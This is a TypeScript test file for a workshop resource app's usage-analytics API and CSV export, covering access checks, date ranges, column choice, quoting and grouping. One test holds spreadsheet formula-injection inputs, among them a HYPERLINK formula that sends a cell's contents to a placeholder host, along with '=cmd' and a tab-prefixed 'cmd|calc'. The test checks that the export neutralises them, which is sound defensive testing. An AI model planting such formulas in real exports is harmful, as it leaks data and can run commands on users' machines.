import { AnalyticsMessages, ResourceMessages } from '@toolpass/contracts';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../../test/build-test-app.ts';
import { resourceFixtures } from '../../test/resource-fixtures.ts';
import { TEST_DIALECTS } from '../../test/test-database.ts';

type Actor = { auth: Record<string, string> };

describe.each(TEST_DIALECTS)('analytics on %s', (dialect) => {
  let t: TestApp;
  let given: ReturnType<typeof resourceFixtures>;
  let manager: Awaited<ReturnType<TestApp['given']['user']>>;
  beforeAll(async () => {
    t = await buildTestApp(dialect);
    given = resourceFixtures(t);
    manager = await t.given.user({ canManageResources: true });
  });
  afterAll(() => t?.close());

  async function session(
    resourceId: number,
    userId: number,
    start: string,
    end: string | null,
    notes: { start?: string; end?: string } = {},
  ) {
    await t.database.db
      .insertInto('usage_sessions')
      .values({
        resource_id: resourceId,
        user_id: userId,
        start_time: new Date(start),
        end_time: end === null ? null : new Date(end),
        start_notes: notes.start ?? null,
        end_notes: notes.end ?? null,
      })
      .execute();
  }

  const get = (url: string, actor: Actor | null = manager) =>
    t.app.inject({ method: 'GET', url, headers: actor?.auth ?? {} });

  const usageHours = (query: string, actor: Actor | null = manager) =>
    get(`/api/analytics/resource-usage-hours?${query}`, actor);
  const csv = (query: string, actor: Actor | null = manager) =>
    get(`/api/analytics/resource-usage.csv?${query}`, actor);

  const parseCsv = (body: string): string[][] => parse(body, { delimiter: ';', record_delimiter: '\r\n' });

  /** Ranges in a year of their own, so the tests of this file do not see each other's sessions. */
  const range = (year: number) => `start=${year}-01-01T00:00:00.000Z&end=${year + 1}-01-01T00:00:00.000Z`;

  describe('GET /api/analytics/resource-usage-hours', () => {
    it('refuses a caller who is not signed in with 401 and a member with 403', async () => {
      expect((await usageHours(range(2001), null)).statusCode).toBe(401);
      const member = await t.given.member();
      const refused = await usageHours(range(2001), member);
      expect(refused.statusCode).toBe(403);
      expect(refused.json().message).toBe(ResourceMessages.forbiddenManageResources);
    });

    it.each([
      ['no range', ''],
      ['no end', 'start=2001-01-01T00:00:00.000Z'],
      ['no start', 'end=2001-01-01T00:00:00.000Z'],
      ['a malformed start', 'start=yesterday&end=2001-01-01T00:00:00.000Z'],
      ['a date without a time', 'start=2001-01-01&end=2001-02-01T00:00:00.000Z'],
    ])('refuses %s with 400', async (_name, query) => {
      const response = await usageHours(query);
      expect(response.statusCode).toBe(400);
      expect(response.json().message).toBe(AnalyticsMessages.invalidRange);
    });

    it('refuses a start after the end with 400 and says so', async () => {
      const response = await usageHours('start=2001-02-01T00:00:00.000Z&end=2001-01-01T00:00:00.000Z');
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({
        message: AnalyticsMessages.invalidRange,
        errors: { start: [AnalyticsMessages.startAfterEnd] },
      });
    });

    it('answers the sessions overlapping the range, whole, in start order', async () => {
      const resource = await given.resource(manager, { name: 'Laser cutter' });
      const member = await t.given.member();
      await session(resource.id, member.id, '2002-03-01T12:00:00.000Z', '2002-03-01T13:30:00.000Z', {
        start: 'cut plywood',
        end: 'lens cleaned',
      });
      // Ends as the range starts: not in it.
      await session(resource.id, member.id, '2002-02-28T10:00:00.000Z', '2002-03-01T00:00:00.000Z');
      // Starts before the range, ends in it.
      await session(resource.id, member.id, '2002-02-28T23:00:00.000Z', '2002-03-01T01:00:00.000Z');
      // Starts in the range, ends after it.
      await session(resource.id, member.id, '2002-03-31T23:30:00.000Z', '2002-04-01T00:45:00.000Z');
      // Starts as the range ends: not in it.
      await session(resource.id, member.id, '2002-04-01T00:00:00.000Z', '2002-04-01T01:00:00.000Z');
      const response = await usageHours('start=2002-03-01T00:00:00.000Z&end=2002-04-01T00:00:00.000Z');
      expect(response.statusCode).toBe(200);
      expect(response.json()).toEqual([
        {
          resource: { id: resource.id, name: 'Laser cutter' },
          user: { id: member.id, username: member.username },
          startTime: '2002-02-28T23:00:00.000Z',
          endTime: '2002-03-01T01:00:00.000Z',
          usageInMinutes: 120,
          startNotes: null,
          endNotes: null,
        },
        {
          resource: { id: resource.id, name: 'Laser cutter' },
          user: { id: member.id, username: member.username },
          startTime: '2002-03-01T12:00:00.000Z',
          endTime: '2002-03-01T13:30:00.000Z',
          usageInMinutes: 90,
          startNotes: 'cut plywood',
          endNotes: 'lens cleaned',
        },
        {
          resource: { id: resource.id, name: 'Laser cutter' },
          user: { id: member.id, username: member.username },
          startTime: '2002-03-31T23:30:00.000Z',
          endTime: '2002-04-01T00:45:00.000Z',
          usageInMinutes: 75,
          startNotes: null,
          endNotes: null,
        },
      ]);
    });

    it('accepts timestamps with an offset', async () => {
      const resource = await given.resource(manager);
      const member = await t.given.member();
      await session(resource.id, member.id, '2003-06-01T10:00:00.000Z', '2003-06-01T10:30:00.000Z');
      const response = await usageHours(
        `start=${encodeURIComponent('2003-06-01T11:00:00+02:00')}&end=${encodeURIComponent('2003-06-01T12:05:00+02:00')}`,
      );
      expect(response.statusCode).toBe(200);
      expect(response.json()).toHaveLength(1);
    });

    it('counts a running session up to now, with no end time', async () => {
      const resource = await given.resource(manager);
      const member = await t.given.member();
      const started = new Date(Date.now() - 90 * 60_000);
      await session(resource.id, member.id, started.toISOString(), null);
      const start = new Date(started.getTime() - 60_000).toISOString();
      const end = new Date(started.getTime() + 30_000).toISOString();
      const response = await usageHours(`start=${start}&end=${end}`);
      expect(response.statusCode).toBe(200);
      const records = response
        .json()
        .filter((r: { resource: { id: number } }) => r.resource.id === resource.id);
      expect(records).toHaveLength(1);
      expect(records[0].endTime).toBeNull();
      expect(records[0].usageInMinutes).toBeGreaterThanOrEqual(90);
      expect(records[0].usageInMinutes).toBeLessThan(91);
    });

    it('answers an empty list for a range without sessions', async () => {
      const response = await usageHours(range(1990));
      expect(response.statusCode).toBe(200);
      expect(response.json()).toEqual([]);
    });
  });

  describe('GET /api/analytics/resource-usage.csv', () => {
    it('refuses a caller who is not signed in with 401 and a member with 403', async () => {
      expect((await csv(range(2001), null)).statusCode).toBe(401);
      const member = await t.given.member();
      const refused = await csv(range(2001), member);
      expect(refused.statusCode).toBe(403);
      expect(refused.json().message).toBe(ResourceMessages.forbiddenManageResources);
    });

    it.each([
      ['no range', ''],
      ['a start after the end', 'start=2001-02-01T00:00:00.000Z&end=2001-01-01T00:00:00.000Z'],
      ['an unknown column', `${range(2001)}&columns=resourceId,price`],
      ['an empty column list', `${range(2001)}&columns=`],
      ['a grouping flag that is not true or false', `${range(2001)}&groupByUserAndResource=yes`],
    ])('refuses %s with 400', async (_name, query) => {
      const response = await csv(query);
      expect(response.statusCode).toBe(400);
      expect(response.json().message).toBe(AnalyticsMessages.invalidExport);
    });

    it('names the unknown column', async () => {
      const response = await csv(`${range(2001)}&columns=resourceId,price`);
      expect(JSON.stringify(response.json().errors)).toContain(AnalyticsMessages.unknownColumn);
    });

    it('sends the default columns as an attachment named resource-usage.csv', async () => {
      const resource = await given.resource(manager, { name: 'Lathe' });
      const member = await t.given.member();
      await session(resource.id, member.id, '2004-05-01T08:00:00.000Z', '2004-05-01T09:45:00.000Z');
      const response = await csv(range(2004));
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toBe('attachment; filename="resource-usage.csv"');
      // The body is written by hand; the headers of the request hooks still go with it.
      expect(response.headers['cache-control']).toBe('no-store');
      expect(response.headers['x-content-type-options']).toBe('nosniff');
      expect(parseCsv(response.body)).toEqual([
        ['resourceId', 'resourceName', 'userId', 'username', 'usageInHours'],
        [String(resource.id), 'Lathe', String(member.id), member.username, '1.75'],
      ]);
    });

    it('names the columns of the header row in English or German when asked, the rows unchanged', async () => {
      const resource = await given.resource(manager, { name: 'Drill press' });
      const member = await t.given.member();
      await session(resource.id, member.id, '1996-03-01T08:00:00.000Z', '1996-03-01T08:30:00.000Z');
      const columns = 'columns=resourceName,username,usageInHours,startTime,endNotes';
      const german = await csv(`${range(1996)}&${columns}&headerLanguage=de`);
      expect(german.statusCode).toBe(200);
      expect(parseCsv(german.body)).toEqual([
        ['Ressource', 'Benutzername', 'Nutzung (Stunden)', 'Beginn (UTC)', 'Notizen am Ende'],
        ['Drill press', member.username, '0.50', '01/03/1996 08:00', ''],
      ]);
      const english = await csv(`${range(1996)}&headerLanguage=en`);
      expect(parseCsv(english.body)[0]).toEqual([
        'Resource ID',
        'Resource',
        'User ID',
        'Username',
        'Usage (hours)',
      ]);
    });

    it('refuses a header language it does not know with 400', async () => {
      const response = await csv(`${range(1996)}&headerLanguage=fr`);
      expect(response.statusCode).toBe(400);
      expect(response.json().message).toBe(AnalyticsMessages.invalidExport);
    });

    it('sends a header row alone for a range without sessions', async () => {
      const response = await csv(range(1990));
      expect(response.statusCode).toBe(200);
      expect(parseCsv(response.body)).toEqual([
        ['resourceId', 'resourceName', 'userId', 'username', 'usageInHours'],
      ]);
    });

    it('quotes values with separators, quotes and line breaks so that they read back unchanged', async () => {
      const resource = await given.resource(manager, { name: 'Saw; "big" one' });
      const member = await t.given.member();
      const startNotes = 'blade "A"; speed 3\nsecond line';
      const endNotes = 'done;\r\nall "fine"';
      await session(resource.id, member.id, '2005-01-01T10:00:00.000Z', '2005-01-01T10:20:00.000Z', {
        start: startNotes,
        end: endNotes,
      });
      const response = await csv(`${range(2005)}&columns=resourceName,startNotes,endNotes,usageInMinutes`);
      expect(response.statusCode).toBe(200);
      expect(parseCsv(response.body)).toEqual([
        ['resourceName', 'startNotes', 'endNotes', 'usageInMinutes'],
        ['Saw; "big" one', startNotes, endNotes, '20.00'],
      ]);
      expect(response.body).toContain('"blade ""A""; speed 3\nsecond line"');
    });

    it("prefixes with ' every typed text that a spreadsheet would run: = + - @ tab and carriage return", async () => {
      const member = await t.given.member();
      // Usernames refuse '@' and white space today; the export does not rely on that.
      const username = `-${member.username}`;
      await t.database.db.updateTable('users').set({ username }).where('id', '=', member.id).execute();
      const cases = [
        { name: '=HYPERLINK("http://x.example/?"&A1;"open")', start: '+1+1', end: '@SUM(A1:A2)' },
        { name: '+plus', start: '\tcmd|calc', end: '\r=1+1' },
        { name: '@at', start: '-2-3', end: '=cmd' },
        { name: '-minus', start: 'plain', end: '' },
      ];
      for (const [index, item] of cases.entries()) {
        const resource = await given.resource(manager, { name: item.name });
        const start = new Date(Date.UTC(2012, 0, 1, 10 + index));
        await session(
          resource.id,
          member.id,
          start.toISOString(),
          new Date(start.getTime() + 30 * 60_000).toISOString(),
          {
            start: item.start,
            end: item.end,
          },
        );
      }
      const columns = 'resourceName,username,startNotes,endNotes,usageInHours';
      const response = await csv(`${range(2012)}&columns=${columns}`);
      expect(response.statusCode).toBe(200);
      expect(parseCsv(response.body)).toEqual([
        columns.split(','),
        ...cases.map((item) => [
          `'${item.name}`,
          `'${username}`,
          item.start === 'plain' ? 'plain' : `'${item.start}`,
          item.end === '' ? '' : `'${item.end}`,
          '0.50',
        ]),
      ]);
      // The prefix sits inside the quotes of a value that needs them.
      expect(response.body).toContain(`"'=HYPERLINK(""http://x.example/?""&A1;""open"")"`);

      const grouped = await csv(`${range(2012)}&groupByUserAndResource=true&columns=resourceName,username`);
      expect(parseCsv(grouped.body).slice(1)).toEqual(cases.map((item) => [`'${item.name}`, `'${username}`]));
    });

    it('keeps multi-byte text and notes longer than a send buffer whole across its 64 KiB chunks', async () => {
      const resource = await given.resource(manager, { name: 'Drehbank für Öl; 🛠' });
      const member = await t.given.member();
      // Some 100 KiB of lines with two- to four-byte characters, so chunk ends fall inside them,
      // and one note longer than a whole chunk.
      const notes = Array.from({ length: 120 }, (_, index) => `${index}: Späne € 🛠 `.repeat(40));
      notes.push('long "x";\n'.repeat(9_000));
      for (const [index, note] of notes.entries()) {
        const start = new Date(Date.UTC(2011, 0, 1, 1, index));
        const end = new Date(start.getTime() + 60_000);
        await session(resource.id, member.id, start.toISOString(), end.toISOString(), { end: note });
      }
      const response = await csv(`${range(2011)}&columns=resourceName,endNotes`);
      expect(response.statusCode).toBe(200);
      expect(parseCsv(response.body)).toEqual([
        ['resourceName', 'endNotes'],
        ...notes.map((note) => ['Drehbank für Öl; 🛠', note]),
      ]);
    });

    it('sends the chosen columns in the chosen order, times in ISO and as dd/mm/yyyy HH:mm in UTC', async () => {
      const resource = await given.resource(manager, { name: 'Mill' });
      const member = await t.given.member();
      await session(resource.id, member.id, '2006-07-09T21:05:30.000Z', '2006-07-10T01:35:00.000Z', {
        start: 'go',
      });
      const response = await csv(
        `${range(2006)}&columns=${[
          'endTime',
          'startTime',
          'startTimeISO',
          'endTimeISO',
          'usageInMinutes',
          'usageInHours',
          'startNotes',
          'endNotes',
          'userId',
          'resourceId',
        ].join(',')}`,
      );
      expect(response.statusCode).toBe(200);
      expect(parseCsv(response.body)).toEqual([
        [
          'endTime',
          'startTime',
          'startTimeISO',
          'endTimeISO',
          'usageInMinutes',
          'usageInHours',
          'startNotes',
          'endNotes',
          'userId',
          'resourceId',
        ],
        [
          '10/07/2006 01:35',
          '09/07/2006 21:05',
          '2006-07-09T21:05:30.000Z',
          '2006-07-10T01:35:00.000Z',
          '269.50',
          '4.49',
          'go',
          '',
          String(member.id),
          String(resource.id),
        ],
      ]);
    });

    it('groups by user and resource with the sums of usage', async () => {
      const drill = await given.resource(manager, { name: 'Drill' });
      const press = await given.resource(manager, { name: 'Press' });
      const ada = await t.given.member();
      const bob = await t.given.member();
      await session(drill.id, ada.id, '2007-02-01T10:00:00.000Z', '2007-02-01T10:30:00.000Z');
      await session(drill.id, ada.id, '2007-02-02T10:00:00.000Z', '2007-02-02T11:15:00.000Z');
      await session(drill.id, bob.id, '2007-02-03T10:00:00.000Z', '2007-02-03T10:10:00.000Z');
      await session(press.id, ada.id, '2007-02-04T10:00:00.000Z', '2007-02-04T12:00:00.000Z');
      await session(press.id, ada.id, '2007-02-05T10:00:00.000Z', '2007-02-05T10:01:00.000Z');
      const response = await csv(
        `${range(2007)}&groupByUserAndResource=true&columns=resourceName,username,usageInMinutes,usageInHours,startTime`,
      );
      expect(response.statusCode).toBe(200);
      expect(parseCsv(response.body)).toEqual([
        ['resourceName', 'username', 'usageInMinutes', 'usageInHours', 'startTime'],
        ['Drill', ada.username, '105.00', '1.75', ''],
        ['Drill', bob.username, '10.00', '0.17', ''],
        ['Press', ada.username, '121.00', '2.02', ''],
      ]);
    });

    it('sends one row per session with groupByUserAndResource=false', async () => {
      const resource = await given.resource(manager);
      const member = await t.given.member();
      await session(resource.id, member.id, '2008-02-01T10:00:00.000Z', '2008-02-01T10:30:00.000Z');
      await session(resource.id, member.id, '2008-02-02T10:00:00.000Z', '2008-02-02T10:30:00.000Z');
      const response = await csv(`${range(2008)}&groupByUserAndResource=false&columns=usageInHours`);
      expect(parseCsv(response.body)).toEqual([['usageInHours'], ['0.50'], ['0.50']]);
    });

    it('reads past the first page of rows in start order', async () => {
      const resource = await given.resource(manager);
      const member = await t.given.member();
      const rows = 2_000 * 2 + 17;
      // Two sessions share each start time, so the page key needs the id too.
      const values = Array.from({ length: rows }, (_, index) => ({
        resource_id: resource.id,
        user_id: member.id,
        start_time: new Date(Date.UTC(2009, 0, 1) + Math.floor(index / 2) * 60_000),
        end_time: new Date(Date.UTC(2009, 0, 1) + Math.floor(index / 2) * 60_000 + 60_000),
        start_notes: String(index),
        end_notes: null,
      }));
      for (let offset = 0; offset < rows; offset += 500) {
        await t.database.db
          .insertInto('usage_sessions')
          .values(values.slice(offset, offset + 500))
          .execute();
      }
      const response = await csv(`${range(2009)}&columns=startNotes`);
      const notes = parseCsv(response.body)
        .slice(1)
        .map((row) => Number(row[0]));
      expect(notes).toEqual(values.map((_, index) => index));
      const grouped = await csv(`${range(2009)}&columns=usageInMinutes&groupByUserAndResource=true`);
      expect(parseCsv(grouped.body)).toEqual([['usageInMinutes'], [`${rows}.00`]]);
    });
  });
});
